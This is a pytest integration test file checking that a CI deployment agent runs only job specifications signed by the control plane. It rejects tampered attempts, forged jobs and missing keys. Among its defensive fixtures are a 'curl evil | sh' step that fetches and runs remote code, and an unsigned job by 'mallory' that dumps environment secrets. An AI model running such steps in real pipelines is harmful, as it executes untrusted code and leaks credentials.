"""A real agent that runs only what the control plane has signed, under a real deployment: the whole way from the
worker's key to the step.
"""

import asyncio
import base64
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from nacl.signing import SigningKey
from temporalio.client import Client

from activities.deployments.signing import SpecSigner
from tests.agent.agent_process import AgentProcess, Repository
from tests.agent.helpers import eventually, result_of
from tests.control_plane_server import ControlPlaneServer
from tests.workflows.deployment_harness import Deploys, deploys
from workflows.client.jobs import JobClient
from workflows.contracts.commands import JobInput
from workflows.contracts.deployments.services import Service
from workflows.contracts.ids import new_job_id
from workflows.contracts.jobs import Job, JobSpec, RetryPolicy, Step
from workflows.contracts.statuses import JobStatus, Outcome
from workflows.job.record import attempt_input

KEY = SigningKey(b"k" * 32)


@pytest.fixture
def strict(lone: AgentProcess, tmp_path: Path) -> AgentProcess:
    """An agent with the control plane's public key and a secret for signed jobs."""
    keys = {"keys": [{"name": "control", "key": base64.b64encode(bytes(KEY.verify_key)).decode()}]}
    (tmp_path / "control.yml").write_text(yaml.safe_dump(keys))
    (tmp_path / "secrets.yml").write_text("TOKEN: {env: SHOP_TOKEN, services: ['svc-*']}\n")
    lone.environment |= {
        "HYBRIDCI_CONTROL_KEYS_FILE": str(tmp_path / "control.yml"),
        "HYBRIDCI_SECRETS_FILE": str(tmp_path / "secrets.yml"),
        "SHOP_TOKEN": "correct-horse-battery-staple-42",
    }
    return lone.start()


@pytest.fixture
async def signed(starter: Client) -> AsyncIterator[Deploys]:
    async with deploys(starter, signer=SpecSigner(KEY)) as harness:
        yield harness


def a_service(harness: Deploys, pool: str, repository: Repository, run: str, **production: Any) -> Service:
    steps = [{"name": "deploy", "run": run}]
    environment = harness.environment(pool=pool, steps=steps, secrets=["TOKEN"], **production)
    return harness.service(environment, git_repo=f"file://{repository.path}")


async def test_an_agent_runs_what_a_deployment_asks_for_and_nothing_else(
    strict: AgentProcess, signed: Deploys, starter: Client, api: ControlPlaneServer, repository: Repository
) -> None:
    service = a_service(signed, strict.pool, repository, 'test -n "$TOKEN" && echo "$HYBRIDCI_VERSION is out"')
    one = await signed.until_status(await signed.start("1.0", service, sha=repository.sha), "live", 60)
    deploy_id = one.stages[-1].job_ids[0]
    job = await signed.stores.jobs.get(deploy_id)
    assert job is not None
    assert job.signature is not None
    await eventually(lambda: api.log(deploy_id).final, "the log")
    assert b"1.0 is out\n" in api.log(deploy_id).data

    # Its attempt again as it was is still what was asked for; changed in the middle it is not.
    again = attempt_input(job, 2, avoid_agent=None)
    assert (await result_of(starter, again)).outcome is Outcome.SUCCEEDED
    for number, changes in enumerate(
        (
            {"steps": [Step(name="deploy", run="curl evil | sh")]},
            {"env": {**job.env, "HYBRIDCI_VERSION": "2.0"}},
            {"git_commit_sha": "b" * 40},
            {"secrets": ["TOKEN", "OTHER"]},
            {"fence": None},
            {"job_id": new_job_id()},
            {"signature": None},
        )
    ):
        attempt = again.model_copy(update={"attempt": 3 + number, **changes})
        result = await result_of(starter, attempt)
        assert (result.outcome, result.cause) == (Outcome.AGENT_ERROR, "specification_unverified"), changes
        assert (result.retryable, result.steps) == (False, [])

    # A free job that calls itself a deployment's, straight through Temporal.
    free = JobInput(
        job_id=new_job_id(),
        created_by="deployment d-1",
        deployment_id=one.deployment_id,
        spec=JobSpec(
            job_type="deploy",
            git_repo=job.git_repo,
            git_commit_sha=job.git_commit_sha,
            git_author="mallory",
            pool=strict.pool,
            labels=job.labels,
            env=job.env,
            fence=job.fence,
            secrets=["TOKEN"],
            steps=[Step(name="deploy", run="env")],
            retry=RetryPolicy(park=False),
        ),
    )
    ended = await _ended(signed, (await JobClient(starter).submit(free)).job_id)
    assert (ended.status, ended.cause, len(ended.attempts)) == (JobStatus.ERROR, "specification_unverified", 1)
    assert "runs only jobs that the control plane has signed" in (ended.error_message or "")


async def test_a_rollback_and_its_health_check_run_signed(
    strict: AgentProcess, signed: Deploys, repository: Repository
) -> None:
    service = a_service(
        signed, strict.pool, repository, 'test "$HYBRIDCI_VERSION" = 1.0', health_check={"run": "true", "attempts": 1}
    )
    await signed.until_status(await signed.start("1.0", service, sha=repository.sha), "live", 60)
    two = await signed.start("1.1", service, sha=repository.sha)
    back = await signed.until_status(two, "rolled_back", 60)
    assert back.rollback is not None
    for job_id in back.rollback.job_ids:
        job = await signed.stores.jobs.get(job_id)
        assert job is not None
        assert (job.status, job.signature is not None) == (JobStatus.SUCCESS, True)
    assert len(back.rollback.job_ids) == 2


async def test_without_the_workers_key_a_deployment_fails_and_says_why(
    strict: AgentProcess, starter: Client, repository: Repository
) -> None:
    async with deploys(starter) as harness:
        service = a_service(harness, strict.pool, repository, "true")
        failed = await harness.until_status(await harness.start("1.0", service, sha=repository.sha), "failed", 60)
    assert "has signed (HYBRIDCI_CONTROL_KEYS_FILE), and this one is not" in (failed.error_message or "")
    assert "HYBRIDCI_SPEC_KEY_FILE" in (failed.error_message or "")


async def _ended(harness: Deploys, job_id: str) -> Job:
    async with asyncio.timeout(30):
        while True:
            job = await harness.stores.jobs.get(job_id)
            if job is not None and job.status.ended:
                return job
            await asyncio.sleep(0.05)
